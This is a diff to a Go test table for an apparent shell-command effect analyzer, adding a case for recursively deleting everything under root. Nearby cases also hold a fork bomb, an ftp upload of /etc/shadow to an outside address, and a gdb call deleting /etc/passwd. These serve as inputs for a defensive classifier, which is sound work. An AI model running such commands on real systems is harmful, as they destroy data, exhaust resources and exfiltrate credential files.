@@ -588,6 +588,7 @@ var shellTable = []shellCase{
 	{cmd: `perl -e 'fork while fork'`, unk: shUnkYes},
 	{cmd: `ruby -e'puts 1'`, want: []Effect{eRun("ruby")}, unk: shUnkAny},
 	{cmd: `ftp -n 198.51.100.4 <<< $'user a b\nput /etc/shadow s\nbye'`, want: []Effect{eRead("/etc/shadow"), eSend("198.51.100.4", "/etc/shadow")}},
+	{cmd: `ls / | xargs -I{} rm -rf /{}`, want: []Effect{eDelR("/*")}},
 	{cmd: `ftp -n files.example <<< $'user a b\nget report.csv\nbye'`, want: []Effect{eConn("files.example", "")}, not: []Effect{{Kind: Send}}},
 	{cmd: `gdb -nx -ex 'python import os; os.remove("/etc/passwd")' -ex quit`, want: []Effect{eDel("/etc/passwd")}, unk: shUnkAny},
 
